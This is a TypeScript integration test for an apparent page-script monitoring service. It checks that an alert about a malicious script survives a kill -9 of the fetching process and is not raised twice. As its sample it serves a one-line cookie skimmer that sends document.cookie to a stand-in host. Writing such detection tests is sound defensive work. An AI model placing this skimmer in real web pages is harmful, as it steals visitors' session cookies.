import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { openCore } from '../../src/app/node/core.ts';
import { readSettings } from '../../src/app/settings/settings.ts';
import { sampleScript } from '../../src/areas/page-monitoring/fixtures/sample-observation.ts';
import { systemClock } from '../../src/kernel/clock.ts';
import { silentTelemetry } from '../../src/telemetry/silent-telemetry.ts';
import { describeOnEachDatabase } from '../support/databases.ts';
import { tempFolder } from '../support/temp-folder.ts';
import { ADMIN_TOKEN, openTestApi } from '../support/test-api.ts';

const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
const child = fileURLToPath(new URL('../support/killed-fetch-main.ts', import.meta.url));

describeOnEachDatabase('kill -9 right after a script became malicious', (kind) => {
  it('does not lose the alert, and does not raise it twice', async (test) => {
    const server = createServer((_, response) => response.end(SKIMMER)).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/skimmer.js`;
    const database = await kind.createMigrated();
    const api = await openTestApi({ ...kind, createMigrated: async () => database });
    const folder = tempFolder();
    test.after(async () => {
      await api.close();
      server.close();
      folder.remove();
    });
    // The other process uses the system clock.
    await api.clock.advance(Date.now() - api.clock.now());
    const now = api.clock.now();
    const zoneId = await api.newZone();
    await api.call('PUT', `/zones/${zoneId}/page_shield`, { body: { enabled: true } });
    const seen = { url, count: 3, firstSeenAt: now, lastSeenAt: now };
    await api.deliver('page-observations', [sampleScript(zoneId, seen)]);
    const malicious = async () =>
      (await api.alerts()).filter((alert) => alert.kind === 'page_malicious_script');
    assert.deepEqual(await malicious(), []);

    const variables = {
      PALISADE_DATA_DIR: folder.path,
      PALISADE_DATABASE_URL: database.url,
      PALISADE_ADMIN_TOKEN: ADMIN_TOKEN,
      PALISADE_OUTBOUND_ALLOW: '127.0.0.1/32',
    };
    const env = { ...process.env, ...variables };
    const killed = spawn(process.execPath, [child], { env, stdio: 'inherit' });
    assert.deepEqual(await once(killed, 'exit'), [null, 'SIGKILL']);
    const list = await api.call('GET', `/zones/${zoneId}/page_shield/scripts`);
    const [script] = list.body.result;
    assert.equal(typeof script.js_integrity_score, 'number', 'it was classified');
    assert.ok(script.js_integrity_score < 10, 'the transaction was committed');
    const [alert, ...more] = await malicious();
    assert.deepEqual(more, []);
    assert.equal(alert?.resource.id, script.id);
    assert.equal(alert?.zoneId, zoneId);
    assert.equal(alert?.accountId, api.accountId);

    // Runs the job again, in this process: a new core has no state of the first run in memory either.
    let commits = 0;
    const core = await openCore(readSettings(variables), silentTelemetry.log, systemClock);
    core.database.onCommit(() => {
      commits += 1;
    });
    const jobs = core.modules.flatMap((module) => module.jobs);
    const job = jobs.find(({ name }) => name === 'page-script-fetch') ?? assert.fail();
    await job.run(new AbortController().signal);
    assert.equal(commits, 0, 'after a restart there is nothing to fetch');
    await core.close();
    assert.equal((await malicious()).length, 1);
  });
});
